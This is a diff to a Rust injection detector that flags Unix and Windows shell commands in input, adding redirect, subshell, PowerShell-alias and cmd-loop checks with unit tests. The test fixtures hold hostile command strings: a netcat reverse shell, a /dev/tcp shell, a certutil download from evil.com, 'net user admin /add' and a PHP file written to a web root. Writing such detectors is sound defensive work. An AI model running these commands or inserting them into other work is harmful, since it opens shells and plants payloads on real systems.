@@ -635,6 +635,10 @@ fn shell_like_argument(rest: &str) -> bool {
     SENSITIVE_WORDS.contains(base)
         || (UNIX_WORDS.contains(base) && !AMBIGUOUS_WORDS.contains(base))
         || word.starts_with("http")
+        // Output redirected to a file (`echo x > /var/www/s.php`).
+        || rest.contains("> /")
+        || rest.contains(">/")
+        || rest.contains(">&")
 }
 
 /// Whether a command runs at byte `i` of `s` (reached as `how`).
@@ -707,7 +711,12 @@ pub fn unix_command(s: &str) -> bool {
             b';' | b'|' | b'&' if b.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/') => {
                 (Position::Strong, 1)
             }
-            b';' | b'|' | b'&' | b'(' | b'{' => (Position::Weak, 1),
+            b';' | b'|' | b'&' | b'{' => (Position::Weak, 1),
+            // A subshell opens only where a command could start: after
+            // `database (mysql)` the shell would stop at a syntax error.
+            b'(' if s[..i].trim_end().bytes().next_back().is_none_or(|c| b";|&({`!\n".contains(&c)) => {
+                (Position::Weak, 1)
+            }
             _ => {
                 i += 1;
                 continue;
@@ -819,6 +828,11 @@ const WINDOWS: &[&str] = &[
     "xcopy",
 ];
 
+/// PowerShell's aliases for what an attack runs: invoke an expression,
+/// fetch, list, start a process or job, import a module. Not the ones
+/// that are also names or words (`sal`, `gp`).
+const POWERSHELL_ALIASES: &[&str] = &["gci", "gcim", "gcm", "gwmi", "icm", "iex", "ipmo", "irm", "iwr", "sajb", "saps"];
+
 /// Whether `s` (decoded, lowercased) runs a Windows command after a
 /// separator, or names one of the tools attackers abuse at the start.
 pub fn windows_command(s: &str) -> bool {
@@ -834,11 +848,25 @@ pub fn windows_command(s: &str) -> bool {
         let word = &s[start..end];
         let name = word.rsplit('\\').next().unwrap_or(word);
         let rest = s[end..].trim_start();
-        let net = matches!(name, "net" | "net1")
-            && ["user", "localgroup", "group", "share", "use", "view", "start", "stop", "accounts", "session"]
-                .iter()
-                .any(|w| rest.starts_with(w));
-        WINDOWS_WORDS.contains(name) && net
+        // Short names run only with one of their subcommands; PowerShell's
+        // aliases only after a separator, as whole words.
+        let subcommands: &[&str] = match name {
+            "net" | "net1" => {
+                &["user", "localgroup", "group", "share", "use", "view", "start", "stop", "accounts", "session"]
+            }
+            "reg" | "reg.exe" => &["query", "add", "delete", "save", "export", "import", "load"],
+            "sc" => &["query", "qc", "create", "config", "start", "stop", "delete"],
+            // cmd's tests (`if exist c:\boot.ini type …`).
+            "if" if separated => &["exist ", "not exist ", "defined ", "errorlevel "],
+            _ => &[],
+        };
+        let subcommand = subcommands.iter().any(|w| rest.starts_with(w));
+        // cmd's loops: `for /f %i in ('whoami') do …`.
+        let for_loop = name == "for" && rest.starts_with('/') && rest.contains('%') && rest.contains(" in");
+        let alias = separated && POWERSHELL_ALIASES.contains(&name) && !rest.starts_with(['=', '.']);
+        alias
+            || for_loop
+            || subcommand
             || WINDOWS_WORDS.contains(name)
                 && (separated && (rest.starts_with(['/', '-']) || rest.starts_with("http") || name.len() > 4)
                     || matches!(
@@ -882,6 +910,9 @@ mod tests {
             "nc -e /bin/sh 10.0.0.1 4444",
             ";lastlog -u root",
             "d=/dev&&(sh)0>$d/tcp/1.2.3.4/777",
+            "(uname -a)",
+            "x; (whoami)",
+            "; echo 'x' > /var/www/html/s.php",
         ] {
             assert!(unix_command(a), "{a}");
         }
@@ -902,6 +933,7 @@ mod tests {
             "salt & pepper",
             "make it so",
             "ping pong",
+            "database (mysql) vs postgres",
             "the date is tomorrow",
             "sort by price",
             "id",
@@ -940,10 +972,29 @@ mod tests {
             "; certutil -urlcache -f http://evil.com/payload.exe",
             "powershell -enc abc",
             "| net user admin /add",
+            "& reg query hklm\\software",
+            "x | iex",
+            "; gci c:\\",
+            "&sc qc spooler",
+            "& for /f %i in ('whoami') do echo %i",
+            "for /l %x in (1,1,10) do ping x",
+            "|if exist c:\\boot.ini type c:\\boot.ini",
         ] {
             assert!(windows_command(a), "{a}");
         }
-        for t in ["net income", "set the table", "type here", "dir: north", "powershell tips"] {
+        for t in [
+            "net income",
+            "set the table",
+            "type here",
+            "dir: north",
+            "powershell tips",
+            "tom & sal",
+            "iex is an alias",
+            "the reg query tool",
+            "x | gci.json",
+            "for /r and /f see the manual",
+            "the value, if defined by the caller",
+        ] {
             assert!(!windows_command(t), "{t}");
         }
     }
